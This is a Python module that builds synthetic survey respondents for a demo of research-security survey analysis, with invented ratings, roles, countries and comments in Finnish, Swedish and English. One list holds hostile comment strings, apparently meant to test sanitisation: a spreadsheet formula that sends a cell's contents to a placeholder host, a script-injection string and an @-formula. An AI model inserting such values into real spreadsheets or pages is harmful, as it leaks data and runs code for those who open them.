"""Synthetic respondents: who answers (organisation, role, field), how they rate each threat,
opportunity and safeguard, which countries they name and what they comment."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from analysis.demo.entities import COUNTRIES, Organisation, PartnerCountry
from analysis.survey.codebook import DONT_KNOW, Codebook

FIELDWORK_START = datetime(2024, 9, 2, 8, 0)
FIELDWORK_END = datetime(2024, 10, 4, 16, 0)


# Invented mean agreement per organisation type; the demo has a story to find, nothing more.
THREAT_MEANS = {
    "university": [3.9, 3.5, 3.4, 4.1, 3.6, 3.3, 3.0, 3.1, 3.7, 2.4],
    "uas": [3.0, 2.6, 2.7, 3.6, 3.0, 2.8, 2.6, 2.7, 3.3, 3.4],
    "research_institute": [4.1, 4.0, 3.9, 4.3, 3.5, 2.9, 2.7, 3.0, 3.6, 2.2],
}
OPPORTUNITY_MEANS = {
    "university": [4.6, 4.5, 4.3, 4.4, 3.9, 3.7, 4.2, 4.1],
    "uas": [3.9, 4.0, 4.2, 4.1, 4.4, 4.3, 3.9, 3.7],
    "research_institute": [4.5, 4.6, 4.0, 4.3, 3.2, 4.1, 4.3, 3.8],
}
PREPAREDNESS_YES = {"university": 0.55, "uas": 0.3, "research_institute": 0.6}
ROLES = {
    "leadership": 2,
    "research": 4,
    "international_office": 3,
    "research_services": 2,
    "other": 1,
}
FIELDS = {
    "university": {
        "natural_sciences": 3,
        "engineering_technology": 2,
        "medical_health": 2,
        "agricultural_veterinary": 1,
        "social_sciences": 3,
        "humanities_arts": 2,
    },
    "uas": {
        "natural_sciences": 1,
        "engineering_technology": 4,
        "medical_health": 3,
        "agricultural_veterinary": 1,
        "social_sciences": 3,
        "humanities_arts": 1,
    },
    "research_institute": {
        "natural_sciences": 3,
        "engineering_technology": 3,
        "medical_health": 1,
        "agricultural_veterinary": 2,
        "social_sciences": 1,
        "humanities_arts": 0,
    },
}
CONCERN_OPTIONS = ["CN", "RU", "IR", "BY", "US", "IN", "HK", "SA", "TR"]
OPPORTUNITY_OPTIONS = ["SE", "DE", "US", "GB", "NO", "JP", "IN", "CN", "KR", "EE"]

COMMENTS = {
    "training": {
        "fi": [
            "Tarvitsemme lisää koulutusta tutkijoille tutkimusturvallisuudesta.",
            "Henkilöstön koulutus vientivalvonnasta on vielä kesken.",
        ],
        "sv": ["Vi behöver mer utbildning om forskningssäkerhet för forskarna."],
        "en": ["Staff need practical training on research security and export control."],
    },
    "guidance": {
        "fi": [
            "Kaipaamme selkeää kansallista ohjeistusta ja viranomaisten tukea.",
            "Viranomaisilta toivotaan maakohtaista tilannekuvaa.",
        ],
        "sv": ["Tydligare nationella riktlinjer och stöd från myndigheterna behövs."],
        "en": ["Clear national guidance and a contact point at the authorities would help."],
    },
    "resources": {
        "fi": [
            "Pienessä organisaatiossa ei ole resursseja taustaselvityksiin.",
            "Resurssit riittävät vain tärkeimpien kumppanien arviointiin.",
        ],
        "sv": ["Små organisationer saknar resurser för granskning av partner."],
        "en": ["We lack the resources for due diligence on every partner."],
    },
    "sanctions": {
        "fi": ["Pakotelistojen tulkinta on vaikeaa ja hidastaa hankkeita."],
        "sv": ["Sanktionslistorna är svåra att tolka."],
        "en": ["Interpreting sanctions lists is difficult and slows projects down."],
    },
    "openness": {
        "fi": [
            "Avoimuus ja akateeminen vapaus eivät saa kärsiä turvallisuustoimista.",
            "Kansainvälinen yhteistyö on meille elintärkeää, hyödyt ovat suuret.",
        ],
        "sv": ["Öppenhet och akademisk frihet får inte lida av säkerhetsåtgärderna."],
        "en": [
            "Openness and academic freedom must not suffer from security measures.",
            "International cooperation is vital for us; the benefits are large.",
        ],
    },
}
HOSTILE_COMMENTS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Lisätietoa")',
    "<script>alert('x')</script> Hyvä kysely!",
    "@SUM(1+1) testing formula",
]


@dataclass
class Respondent:
    org: Organisation
    lang: str
    role: str
    field: str
    answers: dict[str, Any]  # item id -> code, DONT_KNOW or None (no answer)
    concern: list[PartnerCountry]
    concern_other: list[str]
    opportunity: list[PartnerCountry]
    opportunity_other: list[str]
    comment: str | None
    submitted: datetime
    duration: int
    complete: bool = True
    extra: dict[str, Any] = field(default_factory=dict)


def _weighted(rng: random.Random, weights: dict[str, float]) -> str:
    names = list(weights)
    return rng.choices(names, weights=[weights[n] for n in names])[0]


def likert(rng: random.Random, mean: float) -> Any:
    roll = rng.random()
    if roll < 0.04:
        return DONT_KNOW
    if roll < 0.06:
        return None
    return min(5, max(1, round(rng.gauss(mean, 0.95))))


def _country_name(rng: random.Random, country: PartnerCountry, lang: str) -> str:
    if country.variants and rng.random() < 0.25:
        return rng.choice(country.variants)
    return getattr(country, lang)


def _pick_countries(rng: random.Random, attribute: str, most: int) -> list[PartnerCountry]:
    weighted = [c for c in COUNTRIES if getattr(c, attribute) > 0]
    count = rng.choice(range(most + 1))
    chosen: list[PartnerCountry] = []
    while len(chosen) < count:
        pick = rng.choices(weighted, weights=[getattr(c, attribute) for c in weighted])[0]
        if pick not in chosen:
            chosen.append(pick)
    return chosen


def make_respondent(
    rng: random.Random, codebook: Codebook, org: Organisation, languages: dict[str, float]
) -> Respondent:
    lang = _weighted(rng, languages)
    role = _weighted(rng, ROLES)
    field_code = _weighted(rng, FIELDS[org.org_type])
    answers: dict[str, Any] = {
        "organisation": org.name,
        "org_type": org.org_type,
        "role": role,
        "field": field_code,
    }
    shift = 0.3 if role == "research_services" else 0.0
    for item, mean in zip(codebook.block_items("threats"), THREAT_MEANS[org.org_type], strict=True):
        answers[item.id] = likert(rng, mean + shift)
    opportunity_items = codebook.block_items("opportunities")
    for item, mean in zip(opportunity_items, OPPORTUNITY_MEANS[org.org_type], strict=True):
        answers[item.id] = likert(rng, mean)
    ready = PREPAREDNESS_YES[org.org_type]
    for index, item in enumerate(codebook.block_items("preparedness")):
        # Later items (recruitment, mobility, premises) are newer tasks and less often in place.
        p_yes = max(0.1, ready - 0.03 * index)
        roll = rng.random()
        answers[item.id] = (
            DONT_KNOW
            if roll < 0.05
            else "yes"
            if roll < 0.05 + p_yes
            else "partly"
            if roll < 0.35 + p_yes
            else "no"
        )
    concern = _pick_countries(rng, "concern_weight", 3)
    opportunity = _pick_countries(rng, "opportunity_weight", 3)
    comment = None
    if rng.random() < 0.4:
        theme = rng.choice(sorted(COMMENTS))
        texts = COMMENTS[theme].get(lang) or COMMENTS[theme]["en"]
        comment = rng.choice(texts)
    submitted = FIELDWORK_START + timedelta(
        seconds=rng.randrange(int((FIELDWORK_END - FIELDWORK_START).total_seconds()))
    )
    padded = {item_id for item_id in answers if rng.random() < 0.05}
    return Respondent(
        extra={"org_label": rng.choice(org.aliases), "padded": padded},
        org=org,
        lang=lang,
        role=role,
        field=field_code,
        answers=answers,
        concern=[c for c in concern if c.iso2 in CONCERN_OPTIONS],
        concern_other=[
            _country_name(rng, c, lang) for c in concern if c.iso2 not in CONCERN_OPTIONS
        ],
        opportunity=[c for c in opportunity if c.iso2 in OPPORTUNITY_OPTIONS],
        opportunity_other=[
            _country_name(rng, c, lang) for c in opportunity if c.iso2 not in OPPORTUNITY_OPTIONS
        ],
        comment=comment,
        submitted=submitted.replace(second=0),
        duration=int(rng.lognormvariate(6.3, 0.4)),  # about nine minutes
    )


def make_straight_liner(codebook: Codebook, respondent: Respondent, value: int) -> None:
    for block in ("threats", "opportunities"):
        for item in codebook.block_items(block):
            respondent.answers[item.id] = value


# ---------------------------------------------------------------------------------------
# Webropol-like XLSX
